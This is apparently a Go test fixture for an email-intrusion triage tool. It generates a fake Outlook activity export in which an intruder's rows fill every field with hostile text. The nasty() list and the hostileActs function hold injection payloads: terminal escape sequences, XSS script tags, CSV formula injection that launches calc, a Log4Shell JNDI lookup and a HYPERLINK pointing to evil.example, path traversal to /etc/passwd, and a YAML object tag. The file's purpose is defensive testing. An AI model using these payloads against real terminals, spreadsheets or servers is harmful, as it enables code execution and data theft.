package main

import (
	"bytes"
	"fmt"
	"strings"
	"time"

	"triage/testdata/truth"
)

// hostileStrings puts text that attacks its reader into every field of an export.
func hostileStrings() (*investigation, error) {
	const mailboxName, file = "judy@contoso.com", "activities.csv"
	m := newMailbox(dutchManager("Judy Dam", mailboxName), 29)
	attack := on(2018, time.April, 26)
	for d := on(2018, time.April, 3); d <= on(2018, time.April, 30); d++ {
		m.live(d)
		if d == attack {
			hostileActs(m, d)
		}
	}
	ascending(m.rows)
	m.rows = append(m.rows, cutRow(m.rows[len(m.rows)-1].time))
	text := bytes.ReplaceAll(plainCSV(m.rows), []byte("\n"), []byte("\r\n"))
	e := export{file: file, mailbox: mailboxName, rows: m.rows, text: text[:len(text)-2], skipped: 4}
	return &investigation{
		name: "hostile-strings", title: "Hostile text in every field",
		story: `
Judy Dam (judy@contoso.com) works in Amsterdam. On 2018-04-26 at 01:30 UTC an intruder opens Outlook on the web from a mobile
network in Nigeria (` + ngMobile().at(66) + `) and searches for "wire transfer". He knows that his rows will be read: sequences that
move a terminal's cursor or rename its window, text that runs backwards, NUL bytes, bytes that are no UTF-8, HTML that closes
scripts, formulas, format strings, half surrogate pairs, newlines, and one subject of a megabyte stand in subjects, senders,
recipients, ids, sessions, user agents, addresses, queries, clients, activity names, property names and attachments.

Rows end in CR LF, four rows are broken: a time that is none, properties that end in a string, three cells only, and the last
row of the file, which is cut in the middle of a quoted cell.`,
		found: `
- The search, although the query closes a script and moves the cursor.
- The logon from NG, although its user agent renames the window.
- The .hta, although its subject is a formula.
- Each broken row as a skipped row with its line.`,
		quiet: `- In no output a control character or invalid UTF-8; in HTML no raw <script>; in CSV no cell that starts a formula.
- All other rows are analysed.`,
		plants: []plant{
			{"logon", "Web logon, the user agent renames the window", []string{"Web,ServerLogon", ngMobile().at(66)}},
			{"search", "\"wire transfer\" with hostile text behind it", []string{"Web,SearchResult", "wire transfer"}},
			{"attachment", "an .hta, the subject a formula", []string{"MessageDelivered", ".hta"}},
			{"hostile", "hostile text in every field", []string{"2018-04-26T0"}},
			{"large", "a subject of a megabyte", []string{"MessageDelivered", "AAAAAAAAAAAAAAAA"}},
			{"broken", "rows that must be skipped", []string{"2018"}},
		},
		exports: []export{e},
		runs:    []caseRun{{Name: "csv", Inputs: []string{file}}},
		intruder: &intruderTruth{
			kind: "hostile text", accounts: []string{mailboxName}, addresses: []string{ngMobile().at(66)}, plants: []string{"logon", "search"},
			answers: []truth.Line{
				{Answer: "where", Facts: map[string][]string{"countries": {"NG"}}},
				{Answer: "when", Facts: map[string][]string{"last": nil}},
				{Answer: "sent", Sure: []string{"likely", "not known", "proven"}},
				{Answer: "money", Sure: []string{"likely", "not known", "proven"}},
				{Answer: "notify", Sure: []string{"likely", "not known", "proven"}},
			},
		},
		unjudged:  []string{"hostile", "large", "attachment", "broken"},
		mailboxes: map[string]bandWant{mailboxName: {AtLeast: "high"}},
		findings: []findingWant{
			{Rule: "geo.new-country", Mailbox: mailboxName, AtLeast: "medium", Facts: map[string]string{"country": "NG"}, plants: []string{"logon"}},
			{Rule: "search.finance", Mailbox: mailboxName, AtLeast: "medium", plants: []string{"search"}},
			{Rule: "mail.risky-attachment", Mailbox: mailboxName, AtLeast: "low", plants: []string{"attachment"}},
		},
		silences: []quietWant{},
		broken:   "broken",
	}, nil
}

// nasty are texts that attack terminals, browsers, spreadsheets, format strings, paths and decoders.
func nasty() []string {
	return []string{
		"\x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07", "\x9b31mC1\u009b31m",
		"\u202egnp.exe\u202c", "\u2066isolate\u2069\u200f", "a\x00b", "\xff\xfe\xc3(", "\xed\xa0\x80", "</script><script>alert(1)</script>",
		"<img src=x onerror=alert(1)>", "]]>--></style></title>", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
		"line\nfeed\r\nand return", "%s%n%d%!(EXTRA)", "${jndi:ldap://evil.example/a}", "{{.}}{{template \"x\"}}", `\`, `'"`, "`'\"\\", "../../etc/passwd",
		"\u2028\u2029\ufeff\u0085", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309", "ｗｉｒｅ", "👩\u200d💻\U000e0001", "\\ud800", "null", "NaN", "{'a': 'b'}",
		`{"a":1}`, "---\n- !!python/object", "", " ", strings.Repeat("[", 200),
	}
}

// hostileActs are the intruder's acts and a row of noise for each nasty text and field.
func hostileActs(m *mailbox, d date) {
	at := m.later(d.at(time.UTC, 1, 30, 0), 7)
	m.plant = "logon"
	session := m.serverLogon(at, "Web", ngMobile().at(66), "Mozilla/5.0 \x1b]0;owned\x07</script>")
	m.plant = "search"
	m.search(m.later(at, 50), "Web", session, "wire transfer </script>\u202e\u200b=1+1")
	m.plant = "attachment"
	m.deliver(m.later(at, 120), contact{name: "\x1b[31mDiego", address: "=1+1@wingtiptoys.com"}, "=HYPERLINK(\"http://evil.example\",\"Invoice\")", ".hta,ByValue")
	m.plant = "hostile"
	at = d.at(time.UTC, 2, 0, 0)
	for _, text := range nasty() {
		at = hostileRows(m, m.later(at, 5), text)
	}
	m.plant = "large"
	m.deliver(m.later(at, 10), contact{name: "Large", address: "large@adatum.com"}, strings.Repeat("A", 1<<20), "")
	m.plant = "broken"
	brokenRows(m, m.later(at, 20))
	m.plant = ""
}

// hostileRows puts one text into every field of some rows, as the value that Python would have written and, where the
// field is a cell of its own, as it is.
func hostileRows(m *mailbox, at time.Time, text string) time.Time {
	m.deliver(at, contact{name: text, address: text + "@evil.example"}, text, text)
	last := &m.rows[len(m.rows)-1]
	for i := range last.properties {
		if p := &last.properties[i]; p.name == "InternetMessageId" || p.name == "ConversationId" || p.name == "Recipients" {
			p.value = text
		}
	}
	m.recent = m.recent[:len(m.recent)-1] // nobody reads it later
	at = m.later(at, 3)
	m.record(at, "Web", "ServerLogon", text, text, property{"Result", text}, property{"ExceptionInfo", text},
		property{"UserName", text}, property{"ClientIP", text}, property{"UserAgent", text})
	at = m.later(at, 3)
	m.record(at, "Web", "SearchResult", "", text, property{"Query", "<Query><RawQuery>" + text + "</RawQuery></Query>"},
		property{"Folders", text}, property{"Sid", text})
	at = m.later(at, 3)
	m.record(at, text, text, text, text, property{text, text})
	return at
}

// brokenRows are three rows that no reader can take as activities.
func brokenRows(m *mailbox, at time.Time) {
	m.record(at, "Web", "Like", "", "")
	m.rows[len(m.rows)-1].rawTime = "2018-99-99 \x1b[31mno time"
	m.record(m.later(at, 1), "Web", "Like", "", "")
	m.rows[len(m.rows)-1].rawProperties = "{'Subject': 'it ends here"
	m.record(m.later(at, 2), "Web", "Like", "", "")
	last := &m.rows[len(m.rows)-1]
	last.rawLine = fmt.Sprintf("%s,Web,Like", stamp(last.time))
}

// cutRow is a last row that breaks off inside a quoted cell.
func cutRow(after time.Time) row {
	at := after.Add(time.Minute)
	return row{time: at, plant: "broken", rawLine: stamp(at) + `,Web,ReadingPaneDisplayStart,id,` + stamp(at) + `,,"{'ConversationId': 'AAQkAG`}
}
